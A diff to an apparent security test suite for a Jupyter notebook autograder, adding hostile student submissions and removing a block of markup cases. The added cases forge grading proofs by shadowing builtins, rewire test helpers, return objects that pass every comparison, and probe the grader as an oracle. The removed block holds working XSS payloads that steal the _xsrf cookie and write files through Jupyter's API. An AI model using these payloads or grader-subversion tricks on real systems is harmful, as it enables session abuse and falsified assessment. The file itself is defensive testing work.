@@ -512,8 +512,9 @@ FORGE = """
 import ast, hashlib
 
 def proof_for(code):
-    call = ast.parse(code).body[1].value
-    index, nonce = call.args[1].value, call.args[2].value
+    call = next(node for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Call)
+                and getattr(node.func, 'attr', '') == 'audit')
+    nonce = call.args[2].value
     return f"print('[coursekit proof {nonce} 1.5 ' + hashlib.sha256(b'guess').hexdigest() + ']')"
 """
 CASES += [
@@ -618,6 +619,74 @@ def accuracy(t_true, t_pred):
     logging.getLogger('student').info('accuracy computed')
     return hits[True] / len(t_true)""")),
 ]
+# The red team's second round, on the signed protocol.
+def untouched_after(cell_id: str, code: str) -> Callable[[NotebookNode, NotebookNode], bytes]:
+    """The untouched student version with a cell of the student's own after a given cell."""
+    def make(reference: NotebookNode, release: NotebookNode) -> bytes:
+        submission = copy.deepcopy(release)
+        submission.cells.insert(cell_index(submission.cells, cell_id) + 1, nbformat.v4.new_code_cell(code))
+        return nbformat.writes(submission).encode()
+    return make
+
+
+AFTER_ACCURACY = frozenset({"test_accuracy", "test_confusion_matrix", "test_sgd_accuracy", "test_random_relu_features",
+                            "test_circles_accuracy"})
+CASES += [
+    HostileCase("shadows_the_builtins_the_guard_and_the_call_use", untouched_after("test_helpers", """
+import builtins, sys
+real_type, real_import = builtins.type, builtins.__import__
+
+def type(*args):
+    print('LEAKED', sys._getframe(0).f_back.f_locals.keys())
+    return real_type(*args)
+
+def __import__(name, *args, **kwargs):
+    module = real_import(name, *args, **kwargs)
+    if name == 'sys':
+        fake = real_type('FakeSys', (), {'audit': staticmethod(
+            lambda event, index, nonce, outcome: outcome.__setitem__(
+                0, f'[coursekit proof {nonce} - ' + '0' * 64 + ']\\\\n')), 'stdout': module.stdout})
+        return fake
+    return module
+len = isinstance = print = globals = lambda *args, **kwargs: None"""), UNTOUCHED),
+    HostileCase("rewires_the_test_helpers_it_was_given", untouched_after("test_helpers", """
+import gc, warnings
+
+def sniffing():
+    gc.get_objects()
+    with warnings.catch_warnings(record=True) as caught:
+        yield caught
+
+caught_warnings.__closure__[0].cell_contents = sniffing
+caught_warnings.__wrapped__.__globals__['np'] = None"""), UNTOUCHED),
+    HostileCase("returns_an_array_of_agreeable_objects", after("accuracy", """
+class Agreeable(float):
+    def __sub__(self, other): return self
+    def __rsub__(self, other): return self
+    def __abs__(self): return self
+    def __le__(self, other): return True
+    def __lt__(self, other): return True
+    def __ge__(self, other): return True
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    __hash__ = float.__hash__
+
+def accuracy(t_true, t_pred):
+    return np.array(Agreeable(np.sum(np.asarray(t_true) == np.asarray(t_pred))), dtype=object)"""),
+        Expected(loses_points_in=ACCURACY)),
+    HostileCase("uses_the_tests_as_an_oracle", after("accuracy", """
+import sys
+candidates = [lambda t_true, t_pred: np.sum(t_true == t_pred), lambda t_true, t_pred: np.mean(t_true == t_pred)]
+for candidate in candidates:
+    accuracy = candidate
+    outcomes = []
+    for index in range(40):
+        outcome = ['', None]
+        sys.audit('coursekit.test', index, 'probe', outcome)
+        outcomes.append(outcome)
+    if all(outcome[1] is None for outcome in outcomes):
+        break"""), Expected(loses_points_in=AFTER_ACCURACY)),
+]
 
 
 # Broken files, as they arrive: rejected by the intake with the reason, or graded as their content deserves.
@@ -675,100 +744,3 @@ CASES += [
 
 # Attacks on the pages built from a submission (feedback, formgrader, class report): no student script runs.
 # (markup cases: added below this line)
-# Each carries `harm`, JavaScript that does every harm a test can see: it marks the page (title, window name,
-# localStorage, console), opens a dialog, calls the probe address and, in the formgrader, where the instructor is
-# logged in, writes a file into the course folder through Jupyter's contents API with the page's _xsrf cookie.
-# `hostile` appends markup to a written answer (a markdown cell) as it appends code to a code cell. Each earns
-# what its code deserves: full marks, but for the failure with HTML in its message, which the report lists.
-MARKER = "PWNED"
-PROBE = "http://127.0.0.1:9"  # nothing listens on the discard port: the browser's attempt is what a test sees
-WRITTEN_FILE = "written_by_a_submission.txt"
-MARKUP_CASES: list[str] = []  # their names, for the tests that open their pages
-TINY_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAABLbSncAAAAEUlEQVR4nGM4o6SEFTEMLQkAvM5EAT6yk8sAAAAASUVORK5CYII="
-
-
-def harm(case: str) -> str:
-    """The hostile script, without spaces or double quotes so that it fits anywhere, an unquoted attribute too."""
-    xsrf = "document.cookie.match(/_xsrf=([^;]*)/)[1]"
-    steps = [f"top.document.title='{MARKER}'", f"top.name='{MARKER}'", f"localStorage.setItem('{MARKER}','{case}')",
-             f"console.log('{MARKER}:{case}')", f"fetch('{PROBE}/{case}')",
-             f"fetch('/api/contents/{case}.{WRITTEN_FILE}',{{method:'PUT',headers:{{'X-XSRFToken':{xsrf}}},"
-             f"body:JSON.stringify({{type:'file',format:'text',content:'{MARKER}'}})}})",
-             f"alert('{MARKER}:{case}')"]
-    return ";".join(f"try{{{step}}}catch(e){{}}" for step in steps)
-
-
-def markup(name: str, cell_id: str, make: Callable[[str], str], expected: Expected = Expected(),
-           script_of: str | None = None) -> None:
-    """A markup case: make(the hostile script of the case, or of script_of) appended to a solution cell."""
-    MARKUP_CASES.append(name)
-    hostile(name, cell_id, make(harm(script_of or name)), expected)
-
-
-def script(js: str) -> str:
-    return f"<script>{js}</script>"
-
-
-def img_onerror(js: str) -> str:
-    return f'<img src=x onerror="{js}">'
-
-
-def svg_with(js: str) -> str:
-    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="{js}">{script(js)}'
-            '<rect width="40" height="40" fill="teal"/></svg>')
-
-
-def data_url(mimetype: str, content: str) -> str:
-    import base64
-    return f"data:{mimetype};base64,{base64.b64encode(content.encode()).decode()}"
-
-
-def displayed(what: str) -> str:
-    """Python that displays an output, as a student's code can."""
-    return f"from IPython.display import display, HTML, Javascript, Markdown, SVG\ndisplay({what})"
-
-
-# In a written answer, next to its formula (Q1's answer).
-ANSWER = "q1_principle"
-markup("answer_with_a_script", ANSWER, script)
-markup("answer_with_event_handlers", ANSWER,
-       lambda js: f'{img_onerror(js)} <details open ontoggle="{js}"><summary>more</summary></details>')
-markup("answer_with_svg_scripts", ANSWER,
-       lambda js: f'{svg_with(js)}\n\n<svg><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>')
-markup("answer_with_an_iframe_srcdoc", ANSWER, lambda js: f'<iframe srcdoc="{script(js)}"></iframe>')
-markup("answer_with_javascript_links", ANSWER,
-       lambda js: f'<a href="javascript:{js}">a hint</a>, <a href="jav&#x09;ascript:{js}">another</a>, '
-                  f"[a third](javascript:{js})")
-markup("answer_with_a_form", ANSWER,
-       lambda js: f'<form action="{PROBE}/form"><input name="grade" autofocus onfocus="{js}">'
-                  f'<button formaction="javascript:{js}">Send</button></form>')
-markup("answer_with_a_meta_refresh", ANSWER,
-       lambda js: f'<meta http-equiv="refresh" content="0;url={PROBE}/answer_with_a_meta_refresh">')
-markup("answer_with_a_base_href", ANSWER, lambda js: f'<base href="{PROBE}/answer_with_a_base_href/">')
-markup("answer_with_objects_and_embeds", ANSWER,
-       lambda js: f'<object data="{data_url("text/html", script(js))}"></object>'
-                  f'<embed src="{data_url("image/svg+xml", svg_with(js))}">')
-markup("answer_with_remote_css", ANSWER,
-       lambda js: f"<style>@import url({PROBE}/import.css); body {{background: url({PROBE}/style.png)}}</style>"
-                  f'<div style="background-image: url({PROBE}/inline.png)">styled</div>')
-markup("answer_with_mutation_xss", ANSWER, lambda js: f"<math><mtext><table><mglyph><style>{img_onerror(js)}")
-
-# Outputs of the student's code (autograde clears saved outputs: these come from code that runs).
-CODE = "make_blobs"
-markup("html_output_with_a_script", CODE, lambda js: displayed(f"HTML({script(js)!r})"))
-markup("isolated_html_output_with_a_script", CODE,
-       lambda js: displayed(f"HTML({script(js)!r}), metadata={{'text/html': {{'isolated': True}}}}"))
-markup("javascript_output", CODE, lambda js: displayed(f"Javascript({js!r})"))
-markup("raw_javascript_output", CODE,
-       lambda js: displayed(f"{{'application/javascript': {js!r}, 'text/plain': 'js'}}, raw=True"))
-markup("markdown_output_with_html", CODE,
-       lambda js: displayed(f"Markdown({img_onerror(js) + f' [a hint](javascript:{js})'!r})"))
-markup("svg_output_with_a_script", CODE, lambda js: displayed(f"SVG({svg_with(js)!r})"))
-markup("png_output_with_a_hostile_width", CODE,  # nbconvert writes width= unquoted, escaping quotes only
-       lambda js: displayed(f"{{'image/png': {TINY_PNG!r}}}, raw=True, "
-                            f"metadata={{'image/png': {{'width': {'8 onload=' + js!r}}}}}"))
-# Two students hand in the same failure, so that the report, which lists the most frequent ones, shows it.
-for copy_of_the_failure in ["fails_with_html_in_its_message", "copies_the_failure_with_html_in_its_message"]:
-    markup(copy_of_the_failure, "confusion_matrix",
-           lambda js: f"def confusion_matrix(t_true, t_pred, n_classes):\n    raise ValueError({img_onerror(js)!r})",
-           Expected(loses_points_in=CONFUSION), script_of="fails_with_html_in_its_message")
